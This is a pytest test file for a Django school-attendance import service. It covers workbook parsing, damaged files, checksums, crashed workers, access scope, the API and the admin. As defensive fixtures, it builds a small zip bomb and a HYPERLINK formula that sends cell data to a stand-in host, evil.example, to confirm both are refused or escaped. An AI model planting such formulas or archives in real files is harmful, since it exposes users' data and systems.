"""Workbooks, hostile files, the error report, the API, the admin and a dying worker."""

import csv
import datetime as dt
import hashlib
import io
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_celery_beat.models import PeriodicTask
from openpyxl import Workbook
from rest_framework.test import APIClient

from apps.accounts.models import Role, User
from apps.accounts.services import roles_sync, user_create
from apps.ingestion import services
from apps.ingestion.models import RUNNING_STATUSES, ImportJob, ImportKind, ImportStatus
from apps.ingestion.report import error_report_rows
from apps.ingestion.services import (
    import_job_create,
    import_job_restart,
    import_job_run,
    import_jobs_fail_stale,
)
from apps.ingestion.tasks import import_jobs_fail_stale_task
from apps.students.models import AttendanceRecord, DataQualityFlag, QualityCheck
from tests.factories import StaffScopeFactory
from tests.ingestion.helpers import codes, run_import

pytestmark = pytest.mark.django_db

ATTENDANCE = (
    "student_id,eiin,date,status\n"
    "S-1,100001,2026-03-01,present\n"
    "S-2,100001,2026-03-01,absent\n"
    "S-3,100001,2026-03-01,late\n"
)


def _xlsx(rows: list[list[object]], sheet: str = "Attendance", title: str | None = None) -> bytes:
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.title = sheet
    if title:
        worksheet.append([title])
        worksheet.merge_cells("A1:D1")
        worksheet.append([])
    for row in rows:
        worksheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_workbook_with_a_title_row_blank_rows_and_excel_dates(world, tmp_path: Path) -> None:
    content = _xlsx(
        [
            ["Student ID", "EIIN", "Date", "Status"],
            ["S-1", 100001, dt.datetime(2026, 3, 1), "Present"],
            [None, None, None, None],
            ["S-2", 100001, "02/03/2026", "A"],
        ],
        title="Attendance, March 2026",
    )
    job = run_import(tmp_path, ImportKind.ATTENDANCE, content, name="march.xlsx")
    assert job.status == ImportStatus.DONE, codes(job)
    assert (job.file_format, job.sheet, job.rows_read) == ("xlsx", "Attendance", 2)
    assert sorted(AttendanceRecord.objects.values_list("date", "status")) == [
        (dt.date(2026, 3, 1), "present"),
        (dt.date(2026, 3, 2), "absent"),
    ]


def test_workbook_problems_name_the_sheet_and_row(world, tmp_path: Path) -> None:
    content = _xlsx(
        [["student_id", "eiin", "date", "status"], ["S-404", 100001, "2026-03-01", "P"]]
    )
    job = run_import(tmp_path, ImportKind.ATTENDANCE, content, name="a.xlsx", sheet="Attendance")
    problem = job.problems.get()
    assert (problem.sheet, problem.line, problem.code) == ("Attendance", 2, "unknown_student")
    job = run_import(tmp_path, ImportKind.ATTENDANCE, content, name="b.xlsx", sheet="Nope")
    assert codes(job) == ["unknown_sheet"]


def test_an_xlsx_that_is_not_a_zip_or_not_a_workbook_is_rejected(world, tmp_path: Path) -> None:
    job = run_import(
        tmp_path, ImportKind.ATTENDANCE, b"PK\x03\x04" + os.urandom(300), name="x.xlsx"
    )
    assert codes(job) == ["damaged_xlsx"]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    job = run_import(tmp_path, ImportKind.ATTENDANCE, buffer.getvalue(), name="y.xlsx")
    assert codes(job) == ["not_csv_or_xlsx"]
    truncated = _xlsx([["student_id", "eiin", "date", "status"]])[:-200]
    job = run_import(tmp_path, ImportKind.ATTENDANCE, truncated, name="z.xlsx")
    assert codes(job) == ["damaged_xlsx"]


def test_a_zip_bomb_is_refused_before_it_is_unpacked(world, tmp_path: Path, settings) -> None:
    settings.EDUPULSE_XLSX_MAX_UNPACKED_MB = 5
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (20 * 1024 * 1024))
    assert len(buffer.getvalue()) < 100_000
    job = run_import(tmp_path, ImportKind.ATTENDANCE, buffer.getvalue(), name="bomb.xlsx")
    assert job.status == ImportStatus.REJECTED
    assert codes(job) == ["zip_bomb"]


def test_formulas_are_reported_as_text_and_escaped_in_the_report(world, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    content = ATTENDANCE + f'S-1,100001,2026-03-02,"{formula.replace(chr(34), chr(34) * 2)}"\n'
    job = run_import(tmp_path, ImportKind.ATTENDANCE, content)
    assert job.status == ImportStatus.REJECTED
    assert job.problems.get().value == formula
    report = list(csv.reader(io.StringIO("".join(error_report_rows(job)).lstrip("\ufeff"))))
    assert report[0] == ["line", "sheet", "column", "value", "code", "message_en", "message_bn"]
    assert report[1][3] == "'" + formula
    assert report[1][5].startswith("This value is not allowed")
    assert report[1][6] != report[1][5]  # the Bengali message


def test_a_worker_dying_between_batches_leaves_nothing_and_the_job_restarts(
    world, tmp_path: Path, monkeypatch
) -> None:
    def crash(job_id: int, line: int) -> None:
        raise SystemError("worker killed")

    monkeypatch.setattr("apps.ingestion.loading.BATCH_ROWS", 1)
    monkeypatch.setattr(services, "after_batch", crash)
    job = run_import(tmp_path, ImportKind.ATTENDANCE, ATTENDANCE)
    assert job.status == ImportStatus.FAILED
    assert AttendanceRecord.objects.count() == 0
    monkeypatch.setattr(services, "after_batch", lambda job_id, line: None)
    import_job_restart(job=job)
    job = import_job_run(job_id=job.pk)
    assert job.status == ImportStatus.DONE
    assert (job.attempts, AttendanceRecord.objects.count()) == (2, 3)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_killed_worker_process_leaves_no_rows_and_the_stale_job_is_failed(
    world, tmp_path
) -> None:
    path = tmp_path / "attendance.csv"
    path.write_text(ATTENDANCE)
    job = import_job_create(kind=ImportKind.ATTENDANCE, source=path, file_name="attendance.csv")
    script = (
        "import os, django; django.setup()\n"
        "from apps.ingestion import loading, services\n"
        "loading.BATCH_ROWS = 1\n"
        "services.after_batch = lambda job_id, line: os._exit(9)\n"
        f"services.import_job_run(job_id={job.pk})\n"
    )
    settings_dict = connection.settings_dict
    url = (
        f"postgres://{settings_dict['USER']}@{settings_dict['HOST']}:{settings_dict['PORT']}/"
        f"{settings_dict['NAME']}"
    )
    env = {**os.environ, "DATABASE_URL": url, "DJANGO_SETTINGS_MODULE": "edupulse.settings.test"}
    media = {"EDUPULSE_MEDIA_ROOT": str(Path(job.file.path).parents[3])}
    done = subprocess.run(
        [sys.executable, "-c", script],
        env={**env, **media},
        cwd=Path(__file__).parents[2],
        timeout=120,
    )
    assert done.returncode == 9
    job.refresh_from_db()
    # Loading runs beside validation in the job's one transaction: the job
    # row still shows the status it had when that transaction began.
    assert job.status in RUNNING_STATUSES
    assert AttendanceRecord.objects.count() == 0
    assert import_jobs_fail_stale(older_than=dt.timedelta(0)) == [job.pk]
    job.refresh_from_db()
    assert job.status == ImportStatus.FAILED
    assert codes(job) == ["worker_lost"]
    import_job_restart(job=job)
    job = import_job_run(job_id=job.pk)
    assert job.status == ImportStatus.DONE
    assert AttendanceRecord.objects.count() == 3


def test_the_beat_schedule_fails_jobs_whose_heartbeat_stopped(world, tmp_path: Path) -> None:
    path = tmp_path / "attendance.csv"
    path.write_text(ATTENDANCE)
    job = import_job_create(kind=ImportKind.ATTENDANCE, source=path, file_name="attendance.csv")
    fresh = import_job_create(kind=ImportKind.ATTENDANCE, source=path, file_name="again.csv")
    busy = import_job_create(kind=ImportKind.ATTENDANCE, source=path, file_name="long.csv")
    long_ago = timezone.now() - dt.timedelta(minutes=settings.EDUPULSE_IMPORT_STALE_MINUTES + 1)
    ImportJob.objects.filter(pk__in=[job.pk, busy.pk]).update(
        status=ImportStatus.LOADING, heartbeat_at=long_ago
    )
    # A long import: its row still shows the start, its worker beats in the cache.
    services._alive(busy.pk)
    ImportJob.objects.filter(pk=fresh.pk).update(
        status=ImportStatus.LOADING, heartbeat_at=timezone.now()
    )
    scheduled = PeriodicTask.objects.get(task=import_jobs_fail_stale_task.name)
    assert scheduled.enabled and scheduled.interval is not None

    assert import_jobs_fail_stale_task.apply().get() == [job.pk]
    job.refresh_from_db()
    fresh.refresh_from_db()
    assert (job.status, job.failure) == (ImportStatus.FAILED, "worker_lost")
    assert fresh.status == ImportStatus.LOADING
    busy.refresh_from_db()
    assert busy.status == ImportStatus.LOADING


def test_a_running_import_beats_while_it_loads(world, tmp_path: Path, monkeypatch) -> None:
    path = tmp_path / "attendance.csv"
    path.write_text(ATTENDANCE)
    job = import_job_create(kind=ImportKind.ATTENDANCE, source=path, file_name="attendance.csv")
    beats: list[float | None] = []
    monkeypatch.setattr(
        services,
        "after_batch",
        lambda job_id, line: beats.append(cache.get(services._alive_key(job_id))),
    )
    started = time.time()
    job = import_job_run(job_id=job.pk)
    assert job.status == ImportStatus.DONE
    assert beats and all(beat is not None and beat >= started for beat in beats)
    # Finished: nothing of the run is left in the cache.
    assert cache.get(services._alive_key(job.pk)) is None


def test_quality_flags_perfect_attendance_and_a_drop_to_zero(world, tmp_path: Path) -> None:
    days = [dt.date(2026, 3, 1) + dt.timedelta(days=i) for i in range(7)]
    rows = [f"S-{s},100001,{d},present" for d in days[:5] for s in (1, 2, 3)]
    job = run_import(
        tmp_path, ImportKind.ATTENDANCE, "student_id,eiin,date,status\n" + "\n".join(rows)
    )
    flags = DataQualityFlag.objects.filter(source=f"import:{job.pk}")
    assert list(flags.values_list("check_code", flat=True)) == [QualityCheck.PERFECT_ATTENDANCE]
    assert job.quality["schools"]["100001"]["perfect_days"] == 5
    rows = [f"S-{s},100001,{days[5]},absent" for s in (1, 2, 3)]
    job = run_import(
        tmp_path,
        ImportKind.ATTENDANCE,
        "student_id,eiin,date,status\n" + "\n".join(rows),
        name="b.csv",
    )
    assert job.quality["schools"]["100001"]["zero_days"] == []  # one day alone is not a drop


def _data_manager(world, school=None):
    roles_sync()
    user = user_create(
        username=f"dm{User.objects.count()}", password="pw-long-enough", role=Role.DATA_MANAGER
    )
    StaffScopeFactory(user=user, school=school or world["school"])
    return user


def test_the_api_uploads_reports_progress_and_the_report(
    world, django_capture_on_commit_callbacks
) -> None:
    user = _data_manager(world)
    client = APIClient()
    client.force_authenticate(user)
    upload = io.BytesIO(ATTENDANCE.encode())
    upload.name = "attendance.csv"
    # The task is enqueued on commit and runs inline (eager) here.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/api/v1/data/upload", {"kind": "attendance", "file": upload}, format="multipart"
        )
    assert response.status_code == 202, response.content
    job_id, task_id = response.json()["job"], response.json()["task"]
    job = client.get(f"/api/v1/data/jobs/{job_id}").json()
    assert (job["status"], job["rows_inserted"]) == ("done", 3)
    task = client.get(f"/api/v1/tasks/{task_id}").json()
    assert task["progress"]["import_job"] == job_id
    assert task["state"] == "SUCCESS"
    assert AttendanceRecord.objects.count() == 3


def test_a_truncated_upload_is_recognised_by_its_checksum(world) -> None:
    user = _data_manager(world)
    client = APIClient()
    client.force_authenticate(user)
    upload = io.BytesIO(ATTENDANCE.encode()[:-20])
    upload.name = "attendance.csv"
    response = client.post(
        "/api/v1/data/upload",
        {
            "kind": "attendance",
            "file": upload,
            "sha256": hashlib.sha256(ATTENDANCE.encode()).hexdigest(),
        },
        format="multipart",
    )
    job = ImportJob.objects.get(pk=response.json()["job"])
    assert job.status == ImportStatus.REJECTED
    assert codes(job) == ["truncated_upload"]
    problems = client.get(f"/api/v1/data/jobs/{job.pk}/problems").json()["results"]
    assert problems[0]["message_en"].startswith("The upload is incomplete")


def test_a_data_manager_imports_only_into_their_schools_and_sees_only_their_jobs(
    world, tmp_path
) -> None:
    user = _data_manager(world)
    other_user = _data_manager(world, school=world["other"])
    content = "student_id,eiin,date,status\nS-1,100002,2026-03-01,present\n"
    job = run_import(tmp_path, ImportKind.ATTENDANCE, content, user=user)
    assert codes(job) == ["school_out_of_scope"]
    ok = run_import(tmp_path, ImportKind.ATTENDANCE, ATTENDANCE, user=user, name="ok.csv")
    assert ok.status == ImportStatus.DONE
    client = APIClient()
    client.force_authenticate(other_user)
    assert client.get("/api/v1/data/jobs").json()["count"] == 0
    assert client.get(f"/api/v1/data/jobs/{ok.pk}").status_code == 404
    job = run_import(
        tmp_path,
        ImportKind.HOLIDAYS,
        "date,name\n2026-03-26,Independence Day\n",
        user=user,
        name="h.csv",
    )
    assert codes(job) == ["not_allowed_kind"]


def test_the_admin_upload_page_queues_a_job_and_the_report_downloads(
    world, django_capture_on_commit_callbacks
) -> None:
    user = _data_manager(world)
    client = Client()
    client.force_login(user)
    url = reverse("admin:ingestion_importjob_upload")
    assert client.get(url).status_code == 200
    upload = io.BytesIO((ATTENDANCE + "S-404,100001,2026-03-01,present\n").encode())
    upload.name = "attendance.csv"
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            url, {"kind": "attendance", "policy": "all-or-nothing", "file": upload}
        )
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert job.status == ImportStatus.REJECTED
    page = client.get(reverse("admin:ingestion_importjob_change", args=[job.pk]))
    assert b"S-404" in page.content
    report = client.get(reverse("admin:ingestion_importjob_report", args=[job.pk]))
    assert b"unknown_student" in b"".join(report.streaming_content)
    assert client.get(reverse("admin:ingestion_importjob_changelist")).status_code == 200


def test_the_command_exits_0_1_and_2(world, tmp_path: Path) -> None:
    good = tmp_path / "attendance.csv"
    good.write_text(ATTENDANCE)
    bad = tmp_path / "bad" / "attendance.csv"
    bad.parent.mkdir()
    bad.write_text("student_id,eiin,date\n")
    manage = [sys.executable, "manage.py", "import_data"]
    root = Path(__file__).parents[2]
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "edupulse.settings.test"}
    usage = subprocess.run(
        [*manage, "attendance", str(tmp_path / "none.csv")], cwd=root, env=env, capture_output=True
    )
    assert usage.returncode == 2
    assert (
        subprocess.run(
            [*manage, "sleep", str(good)], cwd=root, env=env, capture_output=True
        ).returncode
        == 2
    )
    from django.core.management import call_command

    call_command("import_data", "attendance", str(good))
    assert AttendanceRecord.objects.count() == 3
    with pytest.raises(SystemExit) as exit_:
        call_command("import_data", "auto", str(bad.parent))
    assert exit_.value.code == 1
